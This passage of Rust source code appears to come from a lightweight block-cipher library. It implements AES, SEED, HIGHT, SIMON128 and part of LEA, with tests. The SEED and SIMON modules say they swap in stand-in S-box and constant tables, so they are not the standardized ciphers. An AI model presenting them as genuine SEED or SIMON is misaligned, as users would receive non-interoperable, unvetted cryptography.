            state[4 * c] =
                gf_mul(col[0], 14) ^ gf_mul(col[1], 11) ^ gf_mul(col[2], 13) ^ gf_mul(col[3], 9);
            state[4 * c + 1] =
                gf_mul(col[0], 9) ^ gf_mul(col[1], 14) ^ gf_mul(col[2], 11) ^ gf_mul(col[3], 13);
            state[4 * c + 2] =
                gf_mul(col[0], 13) ^ gf_mul(col[1], 9) ^ gf_mul(col[2], 14) ^ gf_mul(col[3], 11);
            state[4 * c + 3] =
                gf_mul(col[0], 11) ^ gf_mul(col[1], 13) ^ gf_mul(col[2], 9) ^ gf_mul(col[3], 14);
        }
    }
}

impl BlockCipher for Aes {
    fn block_size(&self) -> usize {
        16
    }

    fn encrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 16)?;
        let mut state = [0u8; 16];
        state.copy_from_slice(block);

        Self::add_round_key(&mut state, &self.round_keys[0]);
        for r in 1..self.rounds {
            self.sub_bytes(&mut state);
            Self::shift_rows(&mut state);
            Self::mix_columns(&mut state);
            Self::add_round_key(&mut state, &self.round_keys[r]);
        }
        self.sub_bytes(&mut state);
        Self::shift_rows(&mut state);
        Self::add_round_key(&mut state, &self.round_keys[self.rounds]);

        block.copy_from_slice(&state);
        Ok(())
    }

    fn decrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 16)?;
        let mut state = [0u8; 16];
        state.copy_from_slice(block);

        Self::add_round_key(&mut state, &self.round_keys[self.rounds]);
        Self::inv_shift_rows(&mut state);
        self.inv_sub_bytes(&mut state);
        for r in (1..self.rounds).rev() {
            Self::add_round_key(&mut state, &self.round_keys[r]);
            Self::inv_mix_columns(&mut state);
            Self::inv_shift_rows(&mut state);
            self.inv_sub_bytes(&mut state);
        }
        Self::add_round_key(&mut state, &self.round_keys[0]);

        block.copy_from_slice(&state);
        Ok(())
    }

    fn info(&self) -> CipherInfo {
        CipherInfo {
            name: "AES",
            key_bits: &[128, 192, 256],
            block_bits: 128,
            structure: Structure::Spn,
            rounds: self.rounds,
            fidelity: SpecFidelity::Exact,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ciphers::proptests;

    fn hex(s: &str) -> Vec<u8> {
        (0..s.len())
            .step_by(2)
            .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
            .collect()
    }

    #[test]
    fn sbox_matches_known_corners() {
        let (sbox, inv) = build_sboxes();
        // Universally known S-box entries.
        assert_eq!(sbox[0x00], 0x63);
        assert_eq!(sbox[0x01], 0x7c);
        assert_eq!(sbox[0x53], 0xed);
        assert_eq!(sbox[0xff], 0x16);
        for x in 0..=255u8 {
            assert_eq!(inv[sbox[x as usize] as usize], x);
        }
    }

    #[test]
    fn fips197_aes128_kat() {
        let key = hex("000102030405060708090a0b0c0d0e0f");
        let pt = hex("00112233445566778899aabbccddeeff");
        let ct = hex("69c4e0d86a7b0430d8cdb78070b4c55a");
        let aes = Aes::new(&key).unwrap();
        let mut block = pt.clone();
        aes.encrypt_block(&mut block).unwrap();
        assert_eq!(block, ct);
        aes.decrypt_block(&mut block).unwrap();
        assert_eq!(block, pt);
    }

    #[test]
    fn fips197_aes192_kat() {
        let key = hex("000102030405060708090a0b0c0d0e0f1011121314151617");
        let pt = hex("00112233445566778899aabbccddeeff");
        let ct = hex("dda97ca4864cdfe06eaf70a0ec0d7191");
        let aes = Aes::new(&key).unwrap();
        let mut block = pt.clone();
        aes.encrypt_block(&mut block).unwrap();
        assert_eq!(block, ct);
    }

    #[test]
    fn fips197_aes256_kat() {
        let key = hex("000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f");
        let pt = hex("00112233445566778899aabbccddeeff");
        let ct = hex("8ea2b7ca516745bfeafc49904b496089");
        let aes = Aes::new(&key).unwrap();
        let mut block = pt.clone();
        aes.encrypt_block(&mut block).unwrap();
        assert_eq!(block, ct);
    }

    #[test]
    fn rejects_bad_key_and_block() {
        assert!(matches!(
            Aes::new(&[0u8; 15]),
            Err(CryptoError::InvalidKeyLength { .. })
        ));
        let aes = Aes::new(&[0u8; 16]).unwrap();
        let mut short = [0u8; 15];
        assert!(matches!(
            aes.encrypt_block(&mut short),
            Err(CryptoError::InvalidBlockLength { .. })
        ));
    }

    #[test]
    fn properties() {
        for len in [16usize, 24, 32] {
            let aes = Aes::new(&vec![0x5Au8; len]).unwrap();
            proptests::roundtrip(&aes);
            proptests::avalanche(&aes);
        }
        proptests::key_sensitivity(|k| Box::new(Aes::new(&k[..16]).unwrap()));
    }
}
