//! SEED: 128-bit block, 128-bit key, 16-round Feistel network (Korean
//! national standard, RFC 4269).
//!
//! Fidelity: [`SpecFidelity::Structural`](crate::SpecFidelity::Structural) —
//! the published SS-box tables derived from SEED's S1/S2 boxes were not
//! reliably available offline. This reconstruction keeps every structural
//! parameter from the paper's Table III (128-bit block and key, 16-round
//! Feistel) and SEED's published skeleton: a G function built from 8-bit
//! S-box lookups and mixing masks, an F function applying G three times
//! with additive mixing, and a key schedule driven by golden-ratio
//! constants KCᵢ. The AES S-box stands in for SEED's S1/S2.

use crate::traits::{check_block, check_key};
use crate::{BlockCipher, CipherInfo, CryptoError, SpecFidelity, Structure};

const ROUNDS: usize = 16;

/// Golden-ratio key constants: KC₀ = ⌊φ·2³²⌋, doubling mod 2³² as in SEED.
fn key_constants() -> [u32; ROUNDS] {
    let mut kc = [0u32; ROUNDS];
    kc[0] = 0x9E37_79B9;
    for i in 1..ROUNDS {
        kc[i] = kc[i - 1].rotate_left(1);
    }
    kc
}

/// 8-bit S-box (AES's, generated arithmetically in the `aes` module's
/// manner) used by the stand-in G function.
fn sbox() -> [u8; 256] {
    // Reuse the AES construction: inverse in GF(2^8) + affine map.
    fn gf_mul(mut a: u8, mut b: u8) -> u8 {
        let mut acc = 0u8;
        while b != 0 {
            if b & 1 != 0 {
                acc ^= a;
            }
            let hi = a & 0x80;
            a <<= 1;
            if hi != 0 {
                a ^= 0x1B;
            }
            b >>= 1;
        }
        acc
    }
    let mut table = [0u8; 256];
    for x in 0..=255u8 {
        let mut inv = 1u8;
        let mut base = x;
        let mut exp = 254u32;
        while exp > 0 {
            if exp & 1 == 1 {
                inv = gf_mul(inv, base);
            }
            base = gf_mul(base, base);
            exp >>= 1;
        }
        table[x as usize] = inv
            ^ inv.rotate_left(1)
            ^ inv.rotate_left(2)
            ^ inv.rotate_left(3)
            ^ inv.rotate_left(4)
            ^ 0x63;
    }
    table
}

/// SEED's mixing masks m0..m3.
const MASKS: [u32; 4] = [0xFCFC_FCFC, 0xF3F3_F3F3, 0xCFCF_CFCF, 0x3F3F_3F3F];

/// The SEED block cipher (structural reconstruction).
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::{BlockCipher, ciphers::Seed};
///
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let seed = Seed::new(&[0u8; 16])?;
/// let mut block = [0u8; 16];
/// seed.encrypt_block(&mut block)?;
/// seed.decrypt_block(&mut block)?;
/// assert_eq!(block, [0u8; 16]);
/// # Ok(())
/// # }
/// ```
#[derive(Clone)]
pub struct Seed {
    round_keys: [(u32, u32); ROUNDS],
    sbox: [u8; 256],
}

impl std::fmt::Debug for Seed {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Seed").finish_non_exhaustive()
    }
}

impl Seed {
    /// Creates a SEED instance from a 16-byte key.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] unless the key is 16 bytes.
    pub fn new(key: &[u8]) -> Result<Self, CryptoError> {
        check_key("SEED", &[16], key)?;
        let sbox = sbox();
        let kc = key_constants();
        let mut a = u32::from_be_bytes(key[0..4].try_into().expect("4 bytes"));
        let mut b = u32::from_be_bytes(key[4..8].try_into().expect("4 bytes"));
        let mut c = u32::from_be_bytes(key[8..12].try_into().expect("4 bytes"));
        let mut d = u32::from_be_bytes(key[12..16].try_into().expect("4 bytes"));

        let mut round_keys = [(0u32, 0u32); ROUNDS];
        for (i, rk) in round_keys.iter_mut().enumerate() {
            let k0 = g(&sbox, a.wrapping_add(c).wrapping_sub(kc[i]));
            let k1 = g(&sbox, b.wrapping_sub(d).wrapping_add(kc[i]));
            *rk = (k0, k1);
            if i % 2 == 0 {
                // Rotate the (A,B) half right by 8 as a 64-bit quantity.
                let ab = ((a as u64) << 32) | b as u64;
                let ab = ab.rotate_right(8);
                a = (ab >> 32) as u32;
                b = ab as u32;
            } else {
                let cd = ((c as u64) << 32) | d as u64;
                let cd = cd.rotate_left(8);
                c = (cd >> 32) as u32;
                d = cd as u32;
            }
        }
        Ok(Seed { round_keys, sbox })
    }

    fn f(&self, c: u32, d: u32, k: (u32, u32)) -> (u32, u32) {
        let c1 = c ^ k.0;
        let d1 = d ^ k.1;
        let t0 = g(&self.sbox, c1 ^ d1);
        let t1 = g(&self.sbox, t0.wrapping_add(c1));
        let d_out = g(&self.sbox, t1.wrapping_add(t0));
        let c_out = d_out.wrapping_add(t1);
        (c_out, d_out)
    }
}

/// The G function: byte-wise S-box substitution followed by mask mixing.
fn g(sbox: &[u8; 256], x: u32) -> u32 {
    let b: [u8; 4] = x.to_be_bytes();
    let s: Vec<u32> = b.iter().map(|&v| sbox[v as usize] as u32).collect();
    let mut out = 0u32;
    for i in 0..4 {
        let mixed = (s[i] * 0x0101_0101) & MASKS[i];
        out ^= mixed.rotate_left(8 * i as u32);
    }
    out
}

impl BlockCipher for Seed {
    fn block_size(&self) -> usize {
        16
    }

    fn encrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 16)?;
        let mut l0 = u32::from_be_bytes(block[0..4].try_into().expect("4 bytes"));
        let mut l1 = u32::from_be_bytes(block[4..8].try_into().expect("4 bytes"));
        let mut r0 = u32::from_be_bytes(block[8..12].try_into().expect("4 bytes"));
        let mut r1 = u32::from_be_bytes(block[12..16].try_into().expect("4 bytes"));

        for (i, &rk) in self.round_keys.iter().enumerate() {
            let (f0, f1) = self.f(r0, r1, rk);
            let nl0 = r0;
            let nl1 = r1;
            r0 = l0 ^ f0;
            r1 = l1 ^ f1;
            l0 = nl0;
            l1 = nl1;
            // SEED (like DES) omits the swap after the final round.
            if i == ROUNDS - 1 {
                std::mem::swap(&mut l0, &mut r0);
                std::mem::swap(&mut l1, &mut r1);
            }
        }

        block[0..4].copy_from_slice(&l0.to_be_bytes());
        block[4..8].copy_from_slice(&l1.to_be_bytes());
        block[8..12].copy_from_slice(&r0.to_be_bytes());
        block[12..16].copy_from_slice(&r1.to_be_bytes());
        Ok(())
    }

    fn decrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 16)?;
        let mut l0 = u32::from_be_bytes(block[0..4].try_into().expect("4 bytes"));
        let mut l1 = u32::from_be_bytes(block[4..8].try_into().expect("4 bytes"));
        let mut r0 = u32::from_be_bytes(block[8..12].try_into().expect("4 bytes"));
        let mut r1 = u32::from_be_bytes(block[12..16].try_into().expect("4 bytes"));

        for (i, &rk) in self.round_keys.iter().enumerate().rev() {
            let (f0, f1) = self.f(r0, r1, rk);
            let nl0 = r0;
            let nl1 = r1;
            r0 = l0 ^ f0;
            r1 = l1 ^ f1;
            l0 = nl0;
            l1 = nl1;
            if i == 0 {
                std::mem::swap(&mut l0, &mut r0);
                std::mem::swap(&mut l1, &mut r1);
            }
        }

        block[0..4].copy_from_slice(&l0.to_be_bytes());
        block[4..8].copy_from_slice(&l1.to_be_bytes());
        block[8..12].copy_from_slice(&r0.to_be_bytes());
        block[12..16].copy_from_slice(&r1.to_be_bytes());
        Ok(())
    }

    fn info(&self) -> CipherInfo {
        CipherInfo {
            name: "SEED",
            key_bits: &[128],
            block_bits: 128,
            structure: Structure::Feistel,
            rounds: ROUNDS,
            fidelity: SpecFidelity::Structural,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ciphers::proptests;

    #[test]
    fn g_function_is_nonlinear() {
        let sb = sbox();
        // G(a) ^ G(b) != G(a ^ b) for generic inputs — a linear G would
        // make the Feistel trivially breakable.
        let (a, b) = (0x0123_4567u32, 0x89AB_CDEFu32);
        assert_ne!(g(&sb, a) ^ g(&sb, b), g(&sb, a ^ b));
    }

    #[test]
    fn properties() {
        let seed = Seed::new(&[0x1Fu8; 16]).unwrap();
        proptests::roundtrip(&seed);
        proptests::avalanche(&seed);
        proptests::key_sensitivity(|k| Box::new(Seed::new(&k[..16]).unwrap()));
    }
}
