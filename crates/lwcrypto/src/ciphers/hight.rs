//! HIGHT: 64-bit block, 128-bit key, 32-round byte-oriented generalized
//! Feistel network designed for low-resource devices (CHES 2006).
//!
//! Fidelity: [`SpecFidelity::Faithful`](crate::SpecFidelity::Faithful) — the
//! published algorithm (LFSR-derived δ constants, whitening keys, F0/F1
//! rotation functions, byte-rotating round structure) is implemented as
//! specified, but no official known-answer vector was available offline.

use crate::traits::{check_block, check_key};
use crate::{BlockCipher, CipherInfo, CryptoError, SpecFidelity, Structure};

fn f0(x: u8) -> u8 {
    x.rotate_left(1) ^ x.rotate_left(2) ^ x.rotate_left(7)
}

fn f1(x: u8) -> u8 {
    x.rotate_left(3) ^ x.rotate_left(4) ^ x.rotate_left(6)
}

/// Generates the 128 δ constants from the x⁷+x³+1 LFSR with the seed state
/// specified in the paper (δ₀ = 0x5A).
fn delta_constants() -> [u8; 128] {
    let mut s = [0u8; 134];
    s[..7].copy_from_slice(&[0, 1, 0, 1, 1, 0, 1]);
    for k in 7..134 {
        s[k] = s[k - 4] ^ s[k - 7];
    }
    let mut delta = [0u8; 128];
    for (i, d) in delta.iter_mut().enumerate() {
        let mut v = 0u8;
        for j in 0..7 {
            v |= s[i + j] << j;
        }
        *d = v;
    }
    delta
}

/// The HIGHT block cipher.
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::{BlockCipher, ciphers::Hight};
///
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let hight = Hight::new(&[0x42u8; 16])?;
/// let mut block = *b"thermost";
/// hight.encrypt_block(&mut block)?;
/// hight.decrypt_block(&mut block)?;
/// assert_eq!(&block, b"thermost");
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Clone)]
pub struct Hight {
    whitening: [u8; 8],
    subkeys: [u8; 128],
}

impl Hight {
    /// Creates a HIGHT instance from a 16-byte key.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] unless the key is 16 bytes.
    pub fn new(key: &[u8]) -> Result<Self, CryptoError> {
        check_key("HIGHT", &[16], key)?;
        let mk: [u8; 16] = key.try_into().expect("checked");
        let delta = delta_constants();

        let mut whitening = [0u8; 8];
        whitening[..4].copy_from_slice(&mk[12..16]);
        whitening[4..].copy_from_slice(&mk[..4]);

        let mut subkeys = [0u8; 128];
        for i in 0..8 {
            for j in 0..8 {
                subkeys[16 * i + j] = mk[(j.wrapping_sub(i)) & 7].wrapping_add(delta[16 * i + j]);
                subkeys[16 * i + j + 8] =
                    mk[((j.wrapping_sub(i)) & 7) + 8].wrapping_add(delta[16 * i + j + 8]);
            }
        }

        Ok(Hight { whitening, subkeys })
    }

    /// One encryption round: consumes state X_i, produces X_{i+1} with the
    /// byte rotation folded in.
    fn round(x: &[u8; 8], sk: &[u8], out: &mut [u8; 8]) {
        out[0] = x[7] ^ f0(x[6]).wrapping_add(sk[3]);
        out[1] = x[0];
        out[2] = x[1].wrapping_add(f1(x[0]) ^ sk[2]);
        out[3] = x[2];
        out[4] = x[3] ^ f0(x[2]).wrapping_add(sk[1]);
        out[5] = x[4];
        out[6] = x[5].wrapping_add(f1(x[4]) ^ sk[0]);
        out[7] = x[6];
    }

    /// Inverse of [`Self::round`].
    fn inv_round(x: &[u8; 8], sk: &[u8], out: &mut [u8; 8]) {
        out[0] = x[1];
        out[6] = x[7];
        out[1] = x[2].wrapping_sub(f1(out[0]) ^ sk[2]);
        out[2] = x[3];
        out[3] = x[4] ^ f0(out[2]).wrapping_add(sk[1]);
        out[4] = x[5];
        out[5] = x[6].wrapping_sub(f1(out[4]) ^ sk[0]);
        out[7] = x[0] ^ f0(out[6]).wrapping_add(sk[3]);
    }
}

impl BlockCipher for Hight {
    fn block_size(&self) -> usize {
        8
    }

    fn encrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 8)?;
        let wk = &self.whitening;
        let mut x = [0u8; 8];
        // Initial transformation.
        x[0] = block[0].wrapping_add(wk[0]);
        x[1] = block[1];
        x[2] = block[2] ^ wk[1];
        x[3] = block[3];
        x[4] = block[4].wrapping_add(wk[2]);
        x[5] = block[5];
        x[6] = block[6] ^ wk[3];
        x[7] = block[7];

        let mut next = [0u8; 8];
        for r in 0..32 {
            Self::round(&x, &self.subkeys[4 * r..4 * r + 4], &mut next);
            x = next;
        }

        // The final round's byte rotation is undone before the final
        // transformation (per the specification's non-rotating last round).
        let y = [x[1], x[2], x[3], x[4], x[5], x[6], x[7], x[0]];

        block[0] = y[0].wrapping_add(wk[4]);
        block[1] = y[1];
        block[2] = y[2] ^ wk[5];
        block[3] = y[3];
        block[4] = y[4].wrapping_add(wk[6]);
        block[5] = y[5];
        block[6] = y[6] ^ wk[7];
        block[7] = y[7];
        Ok(())
    }

    fn decrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 8)?;
        let wk = &self.whitening;
        let mut y = [0u8; 8];
        // Invert the final transformation.
        y[0] = block[0].wrapping_sub(wk[4]);
        y[1] = block[1];
        y[2] = block[2] ^ wk[5];
        y[3] = block[3];
        y[4] = block[4].wrapping_sub(wk[6]);
        y[5] = block[5];
        y[6] = block[6] ^ wk[7];
        y[7] = block[7];

        // Re-apply the rotation that encryption undid.
        let mut x = [y[7], y[0], y[1], y[2], y[3], y[4], y[5], y[6]];

        let mut prev = [0u8; 8];
        for r in (0..32).rev() {
            Self::inv_round(&x, &self.subkeys[4 * r..4 * r + 4], &mut prev);
            x = prev;
        }

        // Invert the initial transformation.
        block[0] = x[0].wrapping_sub(wk[0]);
        block[1] = x[1];
        block[2] = x[2] ^ wk[1];
        block[3] = x[3];
        block[4] = x[4].wrapping_sub(wk[2]);
        block[5] = x[5];
        block[6] = x[6] ^ wk[3];
        block[7] = x[7];
        Ok(())
    }

    fn info(&self) -> CipherInfo {
        CipherInfo {
            name: "HIGHT",
            key_bits: &[128],
            block_bits: 64,
            structure: Structure::GeneralizedFeistel,
            rounds: 32,
            fidelity: SpecFidelity::Faithful,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ciphers::proptests;

    #[test]
    fn delta_zero_is_0x5a() {
        assert_eq!(delta_constants()[0], 0x5A);
    }

    #[test]
    fn delta_sequence_has_full_lfsr_period_diversity() {
        let delta = delta_constants();
        // A degree-7 LFSR with primitive polynomial never repeats within
        // its 127-step period, so the first 127 deltas must be distinct.
        let mut seen = std::collections::HashSet::new();
        for &d in delta.iter().take(127) {
            assert!(seen.insert(d), "duplicate delta {d:#x}");
        }
    }

    #[test]
    fn round_inverts() {
        let x = [1u8, 2, 3, 4, 5, 6, 7, 8];
        let sk = [0x11u8, 0x22, 0x33, 0x44];
        let mut forward = [0u8; 8];
        Hight::round(&x, &sk, &mut forward);
        let mut back = [0u8; 8];
        Hight::inv_round(&forward, &sk, &mut back);
        assert_eq!(back, x);
    }

    #[test]
    fn properties() {
        let hight = Hight::new(&[0x5Au8; 16]).unwrap();
        proptests::roundtrip(&hight);
        proptests::avalanche(&hight);
        proptests::key_sensitivity(|k| Box::new(Hight::new(&k[..16]).unwrap()));
    }
}
