//! SIMON128/128: the AND-based sibling of SPECK.
//!
//! Fidelity: [`SpecFidelity::Structural`](crate::SpecFidelity::Structural) —
//! the round function and key-schedule shape follow the designers' paper,
//! but the published 62-bit `z` constant sequence was not reliably available
//! offline; a fixed LFSR-generated sequence (documented below) stands in
//! for it. All structural parameters (128-bit block and key, 68 rounds,
//! Feistel-like AND-rotation round) match the published design.

use crate::traits::{check_block, check_key};
use crate::{BlockCipher, CipherInfo, CryptoError, SpecFidelity, Structure};

const ROUNDS: usize = 68;

/// Generates a 62-bit constant sequence from a 6-bit LFSR (x⁶+x+1, seed 1),
/// standing in for the paper's z₂ sequence.
fn z_sequence() -> [u8; 62] {
    let mut state = 0b000001u8;
    let mut z = [0u8; 62];
    for bit in z.iter_mut() {
        *bit = state & 1;
        let fb = ((state >> 5) ^ state) & 1;
        state = ((state << 1) | fb) & 0x3F;
    }
    z
}

fn f(x: u64) -> u64 {
    (x.rotate_left(1) & x.rotate_left(8)) ^ x.rotate_left(2)
}

/// The SIMON128/128 block cipher (structural reconstruction).
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::{BlockCipher, ciphers::Simon128};
///
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let simon = Simon128::new(&[0u8; 16])?;
/// let mut block = [0u8; 16];
/// simon.encrypt_block(&mut block)?;
/// simon.decrypt_block(&mut block)?;
/// assert_eq!(block, [0u8; 16]);
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Clone)]
pub struct Simon128 {
    round_keys: [u64; ROUNDS],
}

impl Simon128 {
    /// Creates a SIMON128/128 instance from a 16-byte key.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] unless the key is 16 bytes.
    pub fn new(key: &[u8]) -> Result<Self, CryptoError> {
        check_key("SIMON128/128", &[16], key)?;
        let z = z_sequence();
        let c = 0xFFFF_FFFF_FFFF_FFFCu64;
        let mut k = [0u64; ROUNDS];
        k[0] = u64::from_be_bytes(key[8..16].try_into().expect("8 bytes"));
        k[1] = u64::from_be_bytes(key[0..8].try_into().expect("8 bytes"));
        for i in 2..ROUNDS {
            let mut tmp = k[i - 1].rotate_right(3);
            tmp ^= tmp.rotate_right(1);
            k[i] = c ^ (z[(i - 2) % 62] as u64) ^ k[i - 2] ^ tmp;
        }
        Ok(Simon128 { round_keys: k })
    }
}

impl BlockCipher for Simon128 {
    fn block_size(&self) -> usize {
        16
    }

    fn encrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 16)?;
        let mut x = u64::from_be_bytes(block[0..8].try_into().expect("8 bytes"));
        let mut y = u64::from_be_bytes(block[8..16].try_into().expect("8 bytes"));
        for &rk in &self.round_keys {
            let tmp = x;
            x = y ^ f(x) ^ rk;
            y = tmp;
        }
        block[0..8].copy_from_slice(&x.to_be_bytes());
        block[8..16].copy_from_slice(&y.to_be_bytes());
        Ok(())
    }

    fn decrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 16)?;
        let mut x = u64::from_be_bytes(block[0..8].try_into().expect("8 bytes"));
        let mut y = u64::from_be_bytes(block[8..16].try_into().expect("8 bytes"));
        for &rk in self.round_keys.iter().rev() {
            let tmp = y;
            y = x ^ f(y) ^ rk;
            x = tmp;
        }
        block[0..8].copy_from_slice(&x.to_be_bytes());
        block[8..16].copy_from_slice(&y.to_be_bytes());
        Ok(())
    }

    fn info(&self) -> CipherInfo {
        CipherInfo {
            name: "SIMON",
            key_bits: &[128],
            block_bits: 128,
            structure: Structure::Feistel,
            rounds: ROUNDS,
            fidelity: SpecFidelity::Structural,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ciphers::proptests;

    #[test]
    fn z_sequence_is_balanced_and_periodic() {
        let z = z_sequence();
        let ones: u32 = z.iter().map(|&b| b as u32).sum();
        // A maximal 6-bit LFSR emits 32 ones / 31 zeros per 63-step period;
        // over 62 samples the count must be close to half.
        assert!((29..=33).contains(&ones), "ones = {ones}");
    }

    #[test]
    fn properties() {
        let simon = Simon128::new(&[0x77u8; 16]).unwrap();
        proptests::roundtrip(&simon);
        proptests::avalanche(&simon);
        proptests::key_sensitivity(|k| Box::new(Simon128::new(&k[..16]).unwrap()));
    }
}
