//! Block-cipher implementations covering every algorithm in the paper's
//! Table III (plus SPECK/SIMON, which the NIST lightweight-cryptography
//! report the paper cites also recommends).
//!
//! Each cipher documents its [`SpecFidelity`](crate::SpecFidelity) level;
//! see the crate docs for the taxonomy.

mod aes;
mod des;
mod hight;
mod hummingbird2;
mod iceberg;
mod lea;
mod present;
mod pride;
mod rc5;
mod seed;
mod simon;
mod speck;
mod tea;
mod twine;

pub use aes::Aes;
pub use des::{Des, Desl, TripleDes};
pub use hight::Hight;
pub use hummingbird2::Hummingbird2;
pub use iceberg::Iceberg;
pub use lea::Lea;
pub use present::{Present128, Present80};
pub use pride::Pride;
pub use rc5::Rc5;
pub use seed::Seed;
pub use simon::Simon128;
pub use speck::Speck128;
pub use tea::{Tea, Xtea};
pub use twine::Twine;

#[cfg(test)]
pub(crate) mod proptests {
    //! Shared property tests applied to every cipher: roundtrip over random
    //! blocks, single-bit avalanche, and key sensitivity.

    use crate::BlockCipher;
    use rand::{Rng, SeedableRng};

    /// Encrypt-then-decrypt over many random blocks must be the identity.
    pub fn roundtrip(cipher: &dyn BlockCipher) {
        let mut rng = rand::rngs::StdRng::seed_from_u64(0x5eed);
        for _ in 0..64 {
            let mut block: Vec<u8> = (0..cipher.block_size()).map(|_| rng.gen()).collect();
            let original = block.clone();
            cipher.encrypt_block(&mut block).unwrap();
            assert_ne!(
                block,
                original,
                "{}: encryption is identity",
                cipher.info().name
            );
            cipher.decrypt_block(&mut block).unwrap();
            assert_eq!(block, original, "{}: roundtrip failed", cipher.info().name);
        }
    }

    /// Flipping one plaintext bit should flip a substantial fraction of
    /// ciphertext bits on average (we require > 20% over 32 trials — loose
    /// enough for 16-bit-block ciphers, far above what a broken/linear
    /// implementation achieves).
    pub fn avalanche(cipher: &dyn BlockCipher) {
        let mut rng = rand::rngs::StdRng::seed_from_u64(0xAA11);
        let bs = cipher.block_size();
        let mut total_flipped = 0usize;
        let trials = 32usize;
        for _ in 0..trials {
            let base: Vec<u8> = (0..bs).map(|_| rng.gen()).collect();
            let mut a = base.clone();
            let mut b = base.clone();
            let bit = rng.gen_range(0..bs * 8);
            b[bit / 8] ^= 1 << (bit % 8);
            cipher.encrypt_block(&mut a).unwrap();
            cipher.encrypt_block(&mut b).unwrap();
            total_flipped += a
                .iter()
                .zip(b.iter())
                .map(|(x, y)| (x ^ y).count_ones() as usize)
                .sum::<usize>();
        }
        let avg_fraction = total_flipped as f64 / (trials * bs * 8) as f64;
        assert!(
            avg_fraction > 0.20,
            "{}: weak avalanche, avg fraction {:.3}",
            cipher.info().name,
            avg_fraction
        );
    }

    /// Two ciphers keyed differently must not agree on a block.
    pub fn key_sensitivity<F>(mk: F)
    where
        F: Fn(&[u8]) -> Box<dyn BlockCipher>,
    {
        let c1 = mk(&[0x11u8; 64]);
        let c2 = mk(&[0x12u8; 64]);
        let mut b1 = vec![0x33u8; c1.block_size()];
        let mut b2 = b1.clone();
        c1.encrypt_block(&mut b1).unwrap();
        c2.encrypt_block(&mut b2).unwrap();
        assert_ne!(
            b1,
            b2,
            "{}: key changes must change ciphertext",
            c1.info().name
        );
    }
}
