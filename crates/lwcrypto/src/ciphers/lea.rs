//! LEA: 128-bit block ARX cipher with 128/192/256-bit keys (24/28/32
//! rounds), standardized in Korea for lightweight environments.
//!
//! Fidelity: [`SpecFidelity::Faithful`](crate::SpecFidelity::Faithful) — the
//! published round function (rotations 9/5/3) and the δ-constant key
//! schedule are implemented as specified; no official vector was available
//! offline. Table III lists LEA's Feistel classification, which we preserve
//! in [`CipherInfo::structure`] via the generalized-Feistel tag the paper
//! uses for ARX designs of this shape.

use crate::traits::{check_block, check_key};
use crate::{BlockCipher, CipherInfo, CryptoError, SpecFidelity, Structure};

/// Key-schedule constants δ from the LEA specification.
const DELTA: [u32; 8] = [
    0xc3ef_e9db,
    0x4462_6b02,
    0x79e2_7c8a,
    0x78df_30ec,
    0x715e_a49e,
    0xc785_da0a,
    0xe04e_f22a,
    0xe5c4_0957,
];

/// The LEA block cipher.
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::{BlockCipher, ciphers::Lea};
///
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let lea = Lea::new(&[0u8; 16])?;
/// let mut block = [0u8; 16];
/// lea.encrypt_block(&mut block)?;
/// lea.decrypt_block(&mut block)?;
/// assert_eq!(block, [0u8; 16]);
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Clone)]
pub struct Lea {
    round_keys: Vec<[u32; 6]>,
    rounds: usize,
    key_bits: usize,
}

impl Lea {
    /// Creates a LEA instance from a 16-, 24-, or 32-byte key.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] for any other key length.
    pub fn new(key: &[u8]) -> Result<Self, CryptoError> {
        check_key("LEA", &[16, 24, 32], key)?;
        let words: Vec<u32> = key
            .chunks(4)
            .map(|c| u32::from_le_bytes(c.try_into().expect("4 bytes")))
            .collect();

        let (rounds, round_keys) = match key.len() {
            16 => {
                let mut t = [words[0], words[1], words[2], words[3]];
                let mut rks = Vec::with_capacity(24);
                for i in 0..24u32 {
                    let d = DELTA[(i % 4) as usize];
                    t[0] = t[0].wrapping_add(d.rotate_left(i)).rotate_left(1);
                    t[1] = t[1].wrapping_add(d.rotate_left(i + 1)).rotate_left(3);
                    t[2] = t[2].wrapping_add(d.rotate_left(i + 2)).rotate_left(6);
                    t[3] = t[3].wrapping_add(d.rotate_left(i + 3)).rotate_left(11);
                    rks.push([t[0], t[1], t[2], t[1], t[3], t[1]]);
                }
                (24, rks)
            }
            24 => {
                let mut t = [words[0], words[1], words[2], words[3], words[4], words[5]];
                let mut rks = Vec::with_capacity(28);
                for i in 0..28u32 {
                    let d = DELTA[(i % 6) as usize];
                    t[0] = t[0].wrapping_add(d.rotate_left(i)).rotate_left(1);
